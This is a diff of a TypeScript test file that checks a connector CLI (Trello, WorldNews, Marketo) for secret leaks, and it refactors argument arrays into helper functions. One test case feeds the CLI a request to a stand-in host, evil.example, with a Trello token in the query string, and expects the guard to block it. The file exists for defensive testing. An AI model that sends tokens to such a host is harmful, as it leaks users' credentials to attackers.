@@ -5,203 +5,107 @@ import { runCli } from "../../helpers/cli.js";
 import { mask } from "../markers.js";
 import { closedPort } from "../secret-leak-helpers.js";
 import { BOARD, expectNoLeaks, M, needles } from "./harness.js";
-import { csUrl, marketoUrl, plainFile, record, revokedFile, storeFile, trelloUrl, worldnewsUrl } from "./cli-setup.js";
+import {
+  callArgv,
+  webhookServeArgv,
+  csUrl,
+  marketoUrl,
+  plainFile,
+  record,
+  revokedFile,
+  storeFile,
+  trelloUrl,
+  worldnewsUrl,
+} from "./cli-setup.js";
 
 export function cliInProcessFlows(): void {
   it("in process: calls that succeed and fail, hostile --base-url, the guard, auth trello-url, webhook serve usage errors", async () => {
     const closed = await closedPort();
     const runs: Array<[string, string[], number]> = [
-      [
-        "call trello ok",
-        [
-          "call",
-          "trello_get_board",
-          "--input",
-          JSON.stringify({ id: BOARD }),
-          "--connections",
-          plainFile,
-          "--base-url",
-          trelloUrl,
-        ],
-        0,
-      ],
-      [
-        "call worldnews ok",
-        [
-          "call",
-          "worldnews_search_news",
-          "--input",
-          JSON.stringify({ text: "leak scan" }),
-          "--connections",
-          plainFile,
-          "--base-url",
-          worldnewsUrl,
-        ],
-        0,
-      ],
+      ["call trello ok", callArgv("trello_get_board", { id: BOARD }, plainFile, trelloUrl), 0],
+      ["call worldnews ok", callArgv("worldnews_search_news", { text: "leak scan" }, plainFile, worldnewsUrl), 0],
       [
         "call marketo ok",
-        [
-          "call",
+        callArgv(
           "marketo_get_leads",
-          "--input",
-          JSON.stringify({ filterType: "email", filterValues: ["ada@example.com"] }),
-          "--connections",
+          { filterType: "email", filterValues: ["ada@example.com"] },
           plainFile,
-          "--base-url",
           marketoUrl,
-        ],
+        ),
         0,
       ],
-      [
-        "call trello revoked",
-        [
-          "call",
-          "trello_get_board",
-          "--input",
-          JSON.stringify({ id: BOARD }),
-          "--connections",
-          revokedFile,
-          "--base-url",
-          trelloUrl,
-        ],
-        1,
-      ],
+      ["call trello revoked", callArgv("trello_get_board", { id: BOARD }, revokedFile, trelloUrl), 1],
       [
         "call worldnews wrong key",
-        [
-          "call",
-          "worldnews_search_news",
-          "--input",
-          JSON.stringify({ text: "leak scan" }),
-          "--connections",
-          revokedFile,
-          "--base-url",
-          worldnewsUrl,
-        ],
+        callArgv("worldnews_search_news", { text: "leak scan" }, revokedFile, worldnewsUrl),
         1,
       ],
       [
         "call marketo wrong secret",
-        [
-          "call",
+        callArgv(
           "marketo_get_leads",
-          "--input",
-          JSON.stringify({ filterType: "email", filterValues: ["x@example.com"] }),
-          "--connections",
+          { filterType: "email", filterValues: ["x@example.com"] },
           revokedFile,
-          "--base-url",
           marketoUrl,
-        ],
+        ),
         1,
       ],
-      [
-        "call closed port",
-        [
-          "call",
-          "trello_get_board",
-          "--input",
-          JSON.stringify({ id: BOARD }),
-          "--connections",
-          plainFile,
-          "--base-url",
-          `http://127.0.0.1:${closed}`,
-        ],
-        1,
-      ],
+      ["call closed port", callArgv("trello_get_board", { id: BOARD }, plainFile, `http://127.0.0.1:${closed}`), 1],
       [
         "call userinfo base",
-        [
-          "call",
+        callArgv(
           "trello_get_board",
-          "--input",
-          JSON.stringify({ id: BOARD }),
-          "--connections",
+          { id: BOARD },
           plainFile,
-          "--base-url",
           `http://u:${M.userinfoPassword.value}@127.0.0.1:${closed}`,
-        ],
+        ),
         -1,
       ],
       [
         "call marketo userinfo base",
-        [
-          "call",
+        callArgv(
           "marketo_get_leads",
-          "--input",
-          JSON.stringify({ filterType: "email", filterValues: ["ada@example.com"] }),
-          "--connections",
+          { filterType: "email", filterValues: ["ada@example.com"] },
           plainFile,
-          "--base-url",
           `http://u:${M.userinfoPassword.value}@127.0.0.1:${closed}`,
-        ],
+        ),
         -1,
       ],
       [
         "call ftp base",
-        [
-          "call",
-          "trello_get_board",
-          "--input",
-          JSON.stringify({ id: BOARD }),
-          "--connections",
-          plainFile,
-          "--base-url",
-          `ftp://u:${M.userinfoPassword.value}@127.0.0.1`,
-        ],
+        callArgv("trello_get_board", { id: BOARD }, plainFile, `ftp://u:${M.userinfoPassword.value}@127.0.0.1`),
         2,
       ],
       [
         "call guard",
-        [
-          "call",
+        callArgv(
           "trello_api_call",
-          "--input",
-          JSON.stringify({ method: "GET", endpoint: `https://evil.example/?token=${M.trelloToken.value}` }),
-          "--connections",
+          { method: "GET", endpoint: `https://evil.example/?token=${M.trelloToken.value}` },
           plainFile,
-          "--base-url",
           trelloUrl,
-        ],
+        ),
         1,
       ],
       [
         "call reserved query",
-        [
-          "call",
+        callArgv(
           "trello_api_call",
-          "--input",
-          JSON.stringify({
+          {
             method: "GET",
             endpoint: "/1/members/me",
             query_parameters: { token: M.trelloToken.value },
-          }),
-          "--connections",
+          },
           plainFile,
-          "--base-url",
           trelloUrl,
-        ],
+        ),
         1,
       ],
       [
         "call invalid input",
-        [
-          "call",
-          "trello_get_card",
-          "--input",
-          JSON.stringify({ id: 5, key: M.trelloApiKey.value }),
-          "--connections",
-          plainFile,
-          "--base-url",
-          trelloUrl,
-        ],
+        callArgv("trello_get_card", { id: 5, key: M.trelloApiKey.value }, plainFile, trelloUrl),
         1,
       ],
-      [
-        "call contentsnare store renewal",
-        ["call", "contentsnare_get_me", "--input", "{}", "--connections", storeFile, "--base-url", csUrl],
-        0,
-      ],
+      ["call contentsnare store renewal", callArgv("contentsnare_get_me", {}, storeFile, csUrl), 0],
       [
         "call unknown connection",
         [
@@ -219,7 +123,7 @@ export function cliInProcessFlows(): void {
       ["auth missing app name", ["auth", "trello-url", "--key", M.trelloApiKey.value], 2],
       ["auth key without flag", ["auth", "trello-url", "--app-name", "Leak Scan", M.trelloApiKey.value], 2],
       ["auth key as flag value", ["auth", "trello-url", "--app-name", "--key", M.trelloApiKey.value], 2],
-      ["webhook serve no callback", ["webhook", "serve", "--port", "0", "--secret", M.trelloWebhookSecret.value], 2],
+      ["webhook serve no callback", webhookServeArgv(), 2],
       [
         "webhook serve bad port",
         [
@@ -236,18 +140,7 @@ export function cliInProcessFlows(): void {
       ],
       [
         "webhook serve bad callback",
-        [
-          "webhook",
-          "serve",
-          "--port",
-          "0",
-          "--secret",
-          M.trelloWebhookSecret.value,
-          "--callback-url",
-          `ftp://${M.trelloWebhookSecret.value}`,
-          "--host",
-          "127.0.0.1",
-        ],
+        webhookServeArgv("--callback-url", `ftp://${M.trelloWebhookSecret.value}`, "--host", "127.0.0.1"),
         2,
       ],
       [
